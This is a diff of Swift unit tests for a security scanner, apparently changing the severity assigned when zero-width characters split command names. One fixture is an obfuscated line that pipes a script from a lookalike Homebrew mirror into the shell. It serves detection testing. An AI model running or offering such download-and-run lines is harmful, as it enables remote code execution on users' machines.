@@ -94,12 +94,16 @@ struct RuleBehaviourTests {
     #expect(finding.severity == .high)
   }
 
-  @Test("A zero-width character splitting a command name is high, and the shell rules read through it")
+  @Test("A zero-width character splitting a command name is critical in a download-and-run line, and the shell rules read through it")
   func zeroWidthInsideCommandNames() throws {
     let zw = "\u{200B}"
     let script = "#!/bin/sh\ncu\(zw)rl -fsSL https://get.brew-mirror.net/fix.sh | ba\(zw)sh\n"
     let unicode = try #require(try findings("unicode-tag-smuggling", Example(script, language: .shell)).first)
-    #expect(unicode.severity == .high)
+    #expect(unicode.severity == .critical)
+    #expect(unicode.chain == .hijack)
+    let plain = try #require(try findings("unicode-tag-smuggling", Example("#!/bin/sh\ncu\(zw)rl --version\n", language: .shell)).first)
+    #expect(plain.severity == .high)
+    #expect(plain.chain == nil)
     #expect(unicode.message.contains("'curl'"))
     let piped = try #require(try findings("remote-script-piped-to-shell", Example(script, language: .shell)).first)
     #expect(piped.chain == .downloadExecute)
